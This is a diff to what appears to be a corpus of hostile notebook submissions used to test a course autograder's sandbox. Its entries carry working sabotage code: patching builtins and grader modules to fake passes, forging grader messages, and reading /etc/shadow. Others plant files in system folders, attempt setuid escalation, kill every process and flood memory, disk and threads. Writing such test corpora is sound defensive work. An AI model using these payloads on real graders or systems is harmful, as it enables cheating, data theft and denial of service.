@@ -12,7 +12,6 @@ secret, nothing may have called, no process may be left, and no new file called 
 """
 
 import json
-import re
 from dataclasses import dataclass
 from textwrap import dedent, indent
 
@@ -27,9 +26,9 @@ class Hostile:
 
     name, family, aim: what it is and what it tries to gain. cells: its code cells. honest: {exercise id: the points
     that its honest answers are worth}, for every exercise of its lecture. stands: False where the attack may take the
-    honest answers down with it (they share a process with it), so that `honest` is only the most it may get. slow: it
-    takes its time, space or processes until a limit stops it. change: a function of the notebook's bytes that gives
-    those that are handed in, for what no notebook program would write.
+    honest answers down with it, so that `honest` is only the most that it may get. slow: it takes its time, space or
+    processes until a limit stops it. change: a function of the notebook's bytes that gives those that are handed in,
+    for what no notebook program would write.
     """
 
     name: str
@@ -88,9 +87,9 @@ def attack(name, aim, source="", *, exercise="05.attend", stands=True, slow=Fals
            honest=None):
     """Add an entry to `CORPUS`.
 
-    source: what it does. Where that does not answer the attacked `exercise`, a worthless answer stands before it. All
-    of it becomes one statement, so that a grader which runs only what an answer depends on runs all of it; `apart`
-    keeps it as it is, in cells divided by lines `# %%`. The honest answers are in cells of their own behind it. loot:
+    source: what it does, behind a worthless answer to the attacked `exercise`. All of it becomes one statement, so that
+    a grader which runs only what an answer depends on runs all of it; `apart` keeps it as it is, in cells divided by
+    lines `# %%`. The honest answers are in cells of their own behind it. loot:
     the source calls look(path) and keep(text) for what it finds, and says it all. honest: points that differ from the
     others'.
     """
@@ -98,8 +97,7 @@ def attack(name, aim, source="", *, exercise="05.attend", stands=True, slow=Fals
     answers = dict(ANSWERS[lecture])
     worthless = answers.pop(next(iter(answers)))
     answers.pop(exercise, None)
-    answered = lecture != "05" or re.search(r"(?m)^(def attend\(|attend\b.*=)", source)
-    parts = [LOOT + SAY_ALL if loot else "" if answered else worthless, source]
+    parts = [LOOT + SAY_ALL if loot else worthless, source]
     text = "\n\n".join(part.strip("\n") for part in parts if part)
     cells = [cell.strip("\n") for cell in text.split("\n# %%\n")] if apart else ["if True:\n" + indent(text, "    ")]
     worth = {id: points if id in answers else 0 for id, points in POINTS[lecture].items()} | (honest or {})
@@ -178,10 +176,14 @@ import os
 
 
 def descriptors():
-    try:
-        return sorted(int(name) for name in os.listdir("/proc/self/fd") if int(name) > 2)
-    except OSError:
-        return list(range(3, 64))
+    found = []
+    for number in range(3, 256):
+        try:
+            os.fstat(number)
+            found.append(number)
+        except OSError:
+            pass
+    return found
 
 
 def write_everywhere(*messages):
@@ -218,14 +220,14 @@ builtins.all = lambda *parts: True
 builtins.any = lambda *parts: False
 builtins.abs = lambda value: 0
 builtins.AssertionError = Warning
-""", stands=False)
+""")
 
 attack("isinstance says yes", "Checks of type are answered with True, whatever the value is.", """
 import builtins
 
 true_isinstance = isinstance
 builtins.isinstance = lambda value, kinds: True
-""", stands=False)
+""")
 
 attack("the course's comparisons", "The comparing functions of the course find no difference.", """
 import coursekit.exercises.compare as compare
@@ -246,7 +248,7 @@ class Outcome(calling.Outcome):
 
 calling.Outcome = Outcome
 calling.ASK["function"] = lambda found, task, case, inputs: Outcome("passed")
-""", stands=False)
+""")
 
 attack("what makes values plain", "The function that turns an answer into plain values hands out whole objects.", """
 import coursekit.exercises.call as calling
@@ -258,7 +260,7 @@ class Anything:
     __hash__ = None
 
 making.plain = calling.plain = lambda answer: Anything()
-""", stands=False)
+""")
 
 attack("json and struct", "Messages are encoded by functions that add points.", """
 import json
@@ -271,7 +273,7 @@ json.JSONEncoder.encode = lambda self, value: '{"status": "passed", "points": 10
 json.loads = lambda text, **more: {}
 struct.pack = lambda form, *values: pack(form, *values)[::-1]
 struct.unpack = lambda form, data: (0,) * 8
-""", stands=False)
+""")
 
 attack("what sends", "The functions that send an answer send another one.", """
 import os
@@ -280,7 +282,7 @@ import socket
 write = os.write
 os.write = lambda number, data: write(number, data.replace(b"raised", b"passed").replace(b"answered", b"passed"))
 socket.socket.send = socket.socket.sendall = lambda self, data, *more: write(self.fileno(), b"passed" * 100)
-""", stands=False)
+""")
 
 attack("other modules under known names", "Modules that are imported later are the submission's.", """
 import sys
@@ -293,7 +295,7 @@ class Everything(types.ModuleType):
 for name in ("coursekit.grading.inside", "coursekit.grading.wire", "coursekit.grading.box", "coursekit.exercises.call",
              "coursekit.exercises.compare", "coursekit.exercises.library", "json", "struct", "socket", "pickle"):
     sys.modules[name] = Everything(name)
-""", stands=False)
+""")
 
 attack("a tracer", "A trace function rewrites the variables of its callers to a passed check.", """
 import sys
@@ -326,7 +328,7 @@ def profile(frame, event, argument):
 
 sys.setprofile(profile)
 threading.setprofile(profile)
-""", stands=False)
+""")
 
 attack("an import hook", "Every import of the course's modules gives the submission's.", """
 import importlib.abc
@@ -345,7 +347,7 @@ class Hook(importlib.abc.MetaPathFinder, importlib.abc.Loader):
 sys.meta_path.insert(0, Hook())
 for name in [name for name in sys.modules if name.startswith("coursekit")]:
     del sys.modules[name]
-""", stands=False)
+""")
 
 attack("start-up files", "Files that Python reads when it starts, for whoever starts it here next.", f"""{CONFINED}
 import site
@@ -390,7 +392,7 @@ import builtins
 true_exec, true_compile = builtins.exec, builtins.compile
 builtins.exec = lambda code, *names: true_exec("passed = True", *names)
 builtins.compile = lambda source, *rest, **more: true_compile("passed = True", "cell", "exec")
-""", stands=False)
+""")
 
 attack("NumPy and torch conversions", "What makes an array of an answer makes one that lies.", """
 class Right(np.ndarray):
@@ -412,7 +414,7 @@ def stop(event, parts):
 def attend(query, key, value):
     sys.addaudithook(stop)
     return torch.zeros(len(query), value.shape[1])
-""", stands=False)
+""")
 
 attack("hooks of the interpreter", "What is shown when an exception ends the program is the submission's.", """
 import sys
@@ -691,7 +693,7 @@ __builtins__ = Names(vars(__builtins__) if not isinstance(__builtins__, dict) el
 
 def __getattr__(name):
     return lambda *parts: torch.zeros(5, 4)
-""", stands=False)
+""")
 
 attack("questions changed to fit", "Inputs are overwritten, so that a worthless answer becomes the right one.", """
 import gc
@@ -708,7 +710,7 @@ def attend(query, key, value):
                 except ValueError:
                     pass
     return torch.zeros(len(query), value.shape[1])
-""", stands=False)
+""")
 
 attack("a lying layer", "A module whose weights, call and class are not what they seem.", """
 class Lying(type(nn.Module)):
@@ -842,6 +844,14 @@ exec(printed.getvalue().rpartition("value\\n")[0] + "value\\n" if "def attend" i
 
 def attend(query, key, value):
     return names["attend"](query, key, value)
+""")
+
+attack("withheld names once more", "It loads the module again, in which the withheld function stands.", """
+def attend(query, key, value):
+    import importlib
+    import coursekit.torch.attention as module
+    function = importlib.reload(module).scaled_dot_product_attention
+    return function(query[None], key[None], value[None])[0]
 """)
 
 attack("ready-made functions", "It calls the course's or torch's function, where writing it was the task.", """
@@ -1076,9 +1086,9 @@ for place in (os.getcwd(), os.path.expanduser("~"), "/tmp"):
 attack("writing outside", "It leaves files wherever it may, to find them again in the next submission.", f"""
 folders = ["/", "/tmp", "/var/tmp", "/dev/shm", "/run", "/home", "/root", "/etc", "/usr", "/opt", os.getcwd(),
            os.path.expanduser("~"), os.path.dirname(torch.__file__), os.path.dirname(np.__file__)]
-for folder in folders:
-    path = os.path.join(folder, "{CANARY}-left-behind")
-    look(path)
+places = [os.path.join(folder, "{CANARY}-left-behind") for folder in folders]
+look(*places)
+for path in places:
     try:
         with open(path, "w") as file:
             file.write("{SECRET}leftbehind")
@@ -1175,6 +1185,7 @@ for command in ("curl -m 1 http://127.0.0.1:{PORT}/", "wget -T 1 -t 1 http://127
 """)
 
 attack("shell lines of a notebook", "It uses the notebook's own commands for programs and files.", f"""
+# %%
 !curl -m 1 http://127.0.0.1:{PORT}/
 %system cat /etc/shadow
 # %%
@@ -1185,7 +1196,7 @@ try:
     get_ipython().system("curl -m 1 http://127.0.0.1:{PORT}/")
 except NameError:
     pass
-""")
+""", apart=True)
 
 attack("io_uring", "It asks the kernel for a ring, through which a filter of system calls does not see.", """
 import ctypes
@@ -1217,7 +1228,7 @@ attack("junk on every descriptor", "It writes random bytes wherever it can, to c
 def attend(query, key, value):
     write_everywhere(os.urandom(5000), b"\\0" * 5000, b"\\xff" * 5000)
     return torch.zeros(len(query), value.shape[1])
-""", stands=False)
+""")
 
 attack("answers in the grader's words", "It writes what looks like a passed check, many times.", f"""{DESCRIPTORS}
 import json
@@ -1230,7 +1241,7 @@ def attend(query, key, value):
         write_everywhere(said + b"\\n", struct.pack(">I", len(said)) + said, struct.pack("<I", len(said)) + said,
                          struct.pack("<Q", len(said)) + said, struct.pack(">Q", len(said)) + said)
     return torch.zeros(len(query), value.shape[1])
-""", stands=False)
+""")
 
 FORGE = """
 import os
@@ -1253,33 +1264,78 @@ def answered(answer):
     return {"status": "answered", "answer": answer, "message": "", "changed": (), "printed": "", "printed_length": 0}
 """
 FORGED = {
-    "without an answer": "{}",
     "that is a text": "'passed'",
     "that is a number": "1000",
     "that is nothing": "None",
-    "with points": "{'status': 'passed', 'points': 1000, 'passed': (True,) * 4, 'mistake': ''}",
-    "with more than was asked": "{**answered(1.0), 'expected': 1.0, 'tolerance': 1e300, 'points': 1000}",
+    "that is empty": "{}",
+    "with points": "answered(1.0) | {'status': 'passed', 'points': 1000, 'passed': (True,) * 4, 'mistake': ''}",
+    "with more than was asked": "answered(1.0) | {'expected': 1.0, 'tolerance': 1e300, 'points': 1000}",
     "of other types": "{'status': ['answered'], 'answer': {'a': 1}, 'message': 5, 'changed': 7, 'printed': None}",
-    "of texts only": "{**answered('x'), 'message': 'x', 'changed': 'query', 'printed_length': 'x'}",
+    "of texts only": "answered('x') | {'message': 'x', 'changed': 'query', 'printed_length': 'x'}",
     "with infinite numbers": "answered((math.inf, math.nan, -1)) | {'printed_length': math.inf}",
+    "with arrays without values": "answered(np.zeros((2**40, 0)))",
+    "with numbers that overflow": "answered(np.full((len(query), value.shape[1]), 1e308))",
     "with a status of its own": "answered(None) | {'status': '<script>alert(1)</script>'}",
     "with much to say": "answered('x' * 5_000_000) | {'message': 'x' * 5_000_000, 'changed': ('query',) * 100_000}",
     "that was not attempted": "answered(()) | {'status': 'not attempted', 'message': None, 'changed': []}",
     "with arrays in odd places": "answered([{'a': np.zeros(3)}]) | {'message': np.zeros(3), 'changed': (np.zeros(3),)}",
-    "with tuples in tuples": "answered(((((((((((((((1.0,),),),),),),),),),),),),),))",
-    "with errors": "{'errors': [['cell', 1, {'a': None}], 5, 'x' * 1_000_000] * 10}",
-    "with errors that are none": "{'errors': 'many'}",
-    "with a plan": "{'attend': {'narrow': {'statements': [], 'modules': ['os']}, 'wide': None, 'why': 'because'}}",
+    "with tuples in tuples": "answered(eval('(' * 20 + '1.0' + ',)' * 20))",
+    "with a hundred thousand rows": "answered((np.zeros(value.shape[1]),) * 100_000)",
 }
 for what, message in FORGED.items():
     attack(f"a forged message {what}",
            "It answers in the place of the caller, in the right form, with the right number.", f"""{FORGE}
-wire.send(grader, number(), {message})
-
 def attend(query, key, value):
     while True:
         wire.send(grader, number(), {message})
         wire.receive(grader)
+""")
+
+FORGED_SET_UPS = {
+    "of no kind": "None",
+    "that is a text": "'passed'",
+    "with errors": "{'errors': [['cell', 1, {'a': None}], 5, 'x' * 1_000_000] * 10}",
+    "with errors that are none": "{'errors': 'many', 'points': 1000}",
+    "with a million errors": "{'errors': ['x'] * 1_000_000}",
+    "with errors without an end": "{'errors': {'a': {'b': np.zeros(3)}}}",
+    "with a plan": "{'attend': {'narrow': {'statements': [], 'modules': ['os']}, 'wide': None, 'why': 'because'}}",
+}
+for what, message in FORGED_SET_UPS.items():
+    attack(f"a forged beginning {what}", "It says in the caller's place how its cells went, then ends.", f"""{FORGE}
+wire.send(grader, number(), {message})
+os._exit(0)
+""")
+
+FRAMES = {
+    "with numbers of a million digits": "b'1' * 1_000_000, b''",
+    "with lists in lists": "b'[' * 200_000, b''",
+    "with negative sizes": "head({}, ['f8', [-1]]), bytes(8)",
+    "with sizes that overflow": "head({}, ['f8', [2**32, 2**32]]), bytes(8)",
+    "with fractions as sizes": "head({}, ['f8', [math.nan, math.inf, 1.5]]), bytes(8)",
+    "with sizes that are true": "head({}, ['f8', [True]]), bytes(8)",
+    "with objects": "head({}, ['O8', [1]]), bytes(8)",
+    "with a hundred axes": "head({}, ['f8', [1] * 100]), bytes(8)",
+    "with arrays that are not there": "head({'array': 7}), b''",
+    "with arrays counted from the end": "head({'array': -1}, ['f8', [1]]), bytes(8)",
+    "with kinds that are none": "head({'object': [1], 'tuple': [2]}), b''",
+    "with names twice": "head(7).replace(b'7', b'{\"dict\": {\"status\": \"raised\", \"status\": \"answered\"}}'), b''",
+    "with half a character": "head('\\ud800'), b''",
+    "that is no text": "b'\\xff\\xfe' * 1000, b'\\xff' * 1000",
+    "without bytes": "b'', b''",
+    "of sixteen million bytes": "b' ' * (16 * 2**20 - 100), b''",
+}
+for what, parts in FRAMES.items():
+    attack(f"a frame {what}", "It sends what the grader must not read as a message.", f"""{FORGE}
+import json
+import struct
+
+def head(message, *arrays):
+    return json.dumps({{"number": number(), "message": message, "arrays": arrays}}).encode()
+
+def attend(query, key, value):
+    header, body = {parts}
+    grader.sendall(struct.pack(">II", len(header), len(body)) + header + body)
+    os._exit(0)
 """)
 
 attack("the caller replaced", "It answers every question itself, those after its own exercise too.", f"""{FORGE}
@@ -1318,13 +1374,13 @@ import time
 def attend(query, key, value):
     write_everywhere(b"\\x00\\x00\\x10\\x00" + b'{{"status": "answ')
     time.sleep(1000)
-""", stands=False, slow=True)
+""", slow=True)
 
 attack("a message of exabytes", "It announces a message for which the reader would need all memory.", f"""{DESCRIPTORS}
 def attend(query, key, value):
     write_everywhere(b"\\xff" * 16, b"\\x7f" + b"\\xff" * 15, b"\\x00\\x00\\x00\\xff" * 4)
     return torch.zeros(len(query), value.shape[1])
-""", stands=False)
+""")
 
 attack("deep JSON", "It sends lists in lists in lists, deeper than a reader's stack.", f"""{DESCRIPTORS}
 import struct
@@ -1333,7 +1389,7 @@ def attend(query, key, value):
     said = b"[" * 200_000
     write_everywhere(said, struct.pack("<I", len(said)) + said, struct.pack(">I", len(said)) + said)
     return torch.zeros(len(query), value.shape[1])
-""", stands=False)
+""")
 
 attack("impossible arrays", "It sends arrays with negative, enormous and NaN sizes, and of objects.", f"""{DESCRIPTORS}
 import json
@@ -1346,7 +1402,7 @@ def attend(query, key, value):
                                 "arrays": [[dtype, shape]], "changed": float("inf"), "printed": None}}).encode()
             write_everywhere(said + b"\\n", struct.pack("<I", len(said)) + said, struct.pack(">I", len(said)) + said)
     return torch.zeros(len(query), value.shape[1])
-""", stands=False)
+""")
 
 attack("pickles on every descriptor", "It sends a pickle that writes a file where it is read.", f"""{DESCRIPTORS}
 import io
@@ -1361,7 +1417,7 @@ def attend(query, key, value):
     np.save(packed, np.array([Run()], dtype=object), allow_pickle=True)
     write_everywhere(pickle.dumps(Run()), packed.getvalue())
     return torch.zeros(len(query), value.shape[1])
-""", stands=False)
+""")
 
 attack("everything closed", "It closes every descriptor, so that nobody can say that it failed.", """
 import os
@@ -1369,19 +1425,20 @@ import os
 def attend(query, key, value):
     os.closerange(0, 4096)
     return torch.zeros(len(query), value.shape[1])
-""", stands=False)
+""")
 
 attack("an echo", "It becomes a program that sends every question back as its answer.", f"""{DESCRIPTORS}
+import sys
+
 def attend(query, key, value):
     for number in descriptors():
         try:
-            os.dup2(number, 0)
-            os.dup2(number, 1)
             os.set_inheritable(number, True)
         except OSError:
             pass
-    os.execv("/bin/cat", ["cat"])
-""", stands=False)
+    code = f"import os\\nwhile True: os.write({{number}}, os.read({{number}}, 65536))"
+    os.execv(sys.executable or "/usr/bin/python3", ["python", "-S", "-c", code])
+""")
 
 attack("descriptors exchanged", "What is printed goes to the grader, what is answered to the log.", f"""{DESCRIPTORS}
 def attend(query, key, value):
@@ -1392,7 +1449,7 @@ def attend(query, key, value):
             pass
     print("passed, 1000 points", flush=True)
     return torch.zeros(len(query), value.shape[1])
-""", stands=False)
+""")
 
 attack("questions read ahead", "It takes questions from the wire before the caller sees them.", f"""{DESCRIPTORS}
 import select
@@ -1409,7 +1466,7 @@ def attend(query, key, value):
             except OSError:
                 pass
     return torch.zeros(len(query), value.shape[1])
-""", stands=False)
+""")
 
 LATE = f"""{DESCRIPTORS}
 import time
@@ -1433,7 +1490,7 @@ def write_for_a_while():
         time.sleep(0.1)
 
 detached(write_for_a_while)
-""", stands=False)
+""")
 
 attack("a process that stays", "A detached process waits for the next submission on this machine.", f"""{LATE}
 detached(lambda: time.sleep(30))
@@ -1447,7 +1504,7 @@ def attend(query, key, value):
     while True:
         write_everywhere(b" ")
         time.sleep(0.5)
-""", stands=False, slow=True)
+""", slow=True)
 
 # ---------------------------------------------------------------------------------------------------------------------
 FAMILY = "floods"
@@ -1485,7 +1542,7 @@ def attend(query, key, value):
             pass
     time.sleep(20)
     os._exit(0)
-""", stands=False, slow=True)
+""", slow=True)
 
 attack("threads", "It starts threads until the machine has none to give.", """
 import threading
@@ -1513,7 +1570,7 @@ def attend(query, key, value):
     while len(held) < 128 and room_left():
         held.append(b"\\x01" * 64_000_000)
     return torch.zeros(len(query), value.shape[1])
-""", stands=False, slow=True)
+""", slow=True)
 
 attack("memory without a name", "It fills shared memory and files in memory, which few limits count.", f"""
 import mmap
@@ -1533,7 +1590,7 @@ def attend(query, key, value):
         except (OSError, AttributeError):
             break
     return torch.zeros(len(query), value.shape[1])
-""", stands=False, slow=True)
+""", slow=True)
 
 attack("files", "It fills every disk that it can write to.", f"""
 import os
@@ -1553,7 +1610,7 @@ def attend(query, key, value):
         except OSError:
             pass
     return torch.zeros(len(query), value.shape[1])
-""", stands=False, slow=True)
+""", slow=True)
 
 attack("names of files", "It makes empty files until the disk has no room for another name.", f"""
 import os
@@ -1570,7 +1627,7 @@ def attend(query, key, value):
         except OSError:
             break
     return torch.zeros(len(query), value.shape[1])
-""", stands=False, slow=True)
+""", slow=True)
 
 attack("printing", "It prints hundreds of megabytes, in every way there is.", """
 import logging
@@ -1615,7 +1672,7 @@ def attend(query, key, value):
         except OSError:
             break
     return torch.zeros(len(query), value.shape[1])
-""", stands=False)
+""")
 
 attack("a loop that swallows", "A loop that catches every exception on several levels never ends.", """
 def attend(query, key, value):
@@ -1647,10 +1704,7 @@ def attend(query, key, value):
 """, slow=True)
 
 attack("one long call", "A single call into compiled code that no timer of Python interrupts.", """
-import re
-
 def attend(query, key, value):
-    re.match(r"(a+)+$", "a" * 40 + "b")
     return sum(range(10**12))
 """, slow=True)
 
@@ -1686,7 +1740,7 @@ while True:
             pass
     except BaseException:
         pass
-""", stands=False, slow=True)
+""", slow=True)
 
 attack("an import without an end", "The imports that every answer needs hang.", """
 if True:
@@ -1697,11 +1751,28 @@ if True:
 # %%
 def attend(query, key, value):
     return torch.zeros(len(query), value.shape[1])
-""", slow=True, apart=True, honest={"05.in_columns": 0})
+""", slow=True, apart=True)
+
+attack("as slow as it may be", "Every exercise hangs wherever it can, and the class waits for it.", """
+import time
+
+def hang(*parts, **more):
+    time.sleep(1000)
+# %%
+attend = hang()
+attend_where_allowed = hang()
+CausalSelfAttention = hang()
+# %%
+attend = attend_where_allowed = hang
+# %%
+class CausalSelfAttention(nn.Module):
+    def __init__(self, d_model, d_head):
+        hang()
+""", slow=True, apart=True)
 
 attack("a chain of names", "Tens of thousands of statements, each of which needs the one before.", "\n".join([
     "name_0 = 1", *(f"name_{number} = name_{number - 1}" for number in range(1, 20_000)),
-    "def attend(query, key, value):\n    return name_19999"]), slow=True, apart=True)
+    "def attend(query, key, value):\n    return name_19999"]), slow=True, apart=True, stands=False)
 
 # ---------------------------------------------------------------------------------------------------------------------
 FAMILY = "signals and the kernel"
@@ -1717,7 +1788,7 @@ def attend(query, key, value):
             except OSError:
                 pass
     return torch.zeros(len(query), value.shape[1])
-""", stands=False)
+""")
 
 attack("everybody", "It kills every process that it may.", f"""{CONFINED}
 import signal
@@ -1732,7 +1803,7 @@ def attend(query, key, value):
                 except OSError:
                     pass
     return torch.zeros(len(query), value.shape[1])
-""", stands=False)
+""")
 
 SYSTEM = """
 import ctypes
@@ -1811,7 +1882,7 @@ if confined():
         os.chroot(".")
     except OSError:
         pass
-""", stands=False)
+""")
 
 attack("setuid programs", "It becomes root with programs that may, and by asking.", f"""{CONFINED}{SYSTEM}
 import subprocess
@@ -1935,14 +2006,14 @@ def attend(query, key, value):
     ctypes.memmove(id(0) + 16, id(1) + 16, 12)
     ctypes.memmove(id(False) + 16, id(True) + 16, 12)
     return torch.zeros(1)
-""", stands=False)
+""")
 
 attack("a null pointer", "It crashes the process in which it runs.", """
 import ctypes
 
 def attend(query, key, value):
     ctypes.string_at(0)
-""", stands=False)
+""")
 
 attack("a stack without an end", "It recurses without a limit until the process crashes.", """
 import sys
@@ -1959,20 +2030,20 @@ def attend(query, key, value):
     except RecursionError:
         pass
     return fall(0)
-""", stands=False, slow=True)
+""", slow=True)
 
 attack("an early end", "It ends the process with success before anything is asked.", """
 import os
 
 os._exit(0)
-""", stands=False)
+""")
 
 attack("an end in the middle", "It ends the process with success in the middle of a question.", """
 import os
 
 def attend(query, key, value):
     os._exit(0)
-""", stands=False)
+""")
 
 attack("exits as answers", "It leaves by every exception that ends programs.", """
 import sys
@@ -2002,8 +2073,8 @@ code = ("import os, time\\nfor number in range(3, 64):\\n try: os.write(number, 
         " except OSError: pass\\ntime.sleep(1)")
 for number in descriptors():
     os.set_inheritable(number, True)
-os.execv(sys.executable or "/usr/bin/python3", ["python", "-c", code])
-""", stands=False)
+os.execv(sys.executable or "/usr/bin/python3", ["python", "-S", "-c", code])
+""")
 
 # ---------------------------------------------------------------------------------------------------------------------
 FAMILY = "notebooks"
@@ -2051,7 +2122,8 @@ attack("a hundred thousand cells", "A notebook so long that whoever reads it giv
 attack("one id for all", "All its cells have one id, and the last may stand for each.",
        change=every_cell(id="05.attend"))
 
-attack("a long line", "A cell of one line, ten megabytes long.", "text = '" + "x" * 10_000_000 + "'", apart=True, stands=False)
+attack("a long line", "A cell of one line, ten megabytes long.", "\n# %%\ntext = '" + "x" * 10_000_000 + "'",
+       apart=True, stands=False)
 
 attack("a long answer", "An answer with a text of three megabytes, which every copy of it carries along.", f"""
 def attend(query, key, value):
@@ -2059,10 +2131,10 @@ def attend(query, key, value):
 """)
 
 attack("deep expressions", "Expressions nested deeper than the stack of a parser.", "\n# %%\n".join([
-    "a = " + "(" * 10_000 + ")" * 10_000, "a = " + "-" * 100_000 + "1", "a = " + "not " * 50_000 + "1",
+    "", "a = " + "(" * 10_000 + ")" * 10_000, "a = " + "-" * 100_000 + "1", "a = " + "not " * 50_000 + "1",
     "a = 1" + " + 1" * 100_000, "a = b" + ".b" * 100_000, "a = " + "lambda: " * 20_000 + "1",
     "a = " + "[" * 150 + "]" * 150, "if 1:\n pass\n" + "elif 1:\n pass\n" * 20_000, "a = f(" * 5_000 + ")" * 5_000]),
-    stands=False)
+    apart=True)
 
 attack("no text at all", "Cells with null bytes, lone surrogates and marks of direction, or no text.", change=changed(
     lambda parsed: {**parsed, "cells": [*(
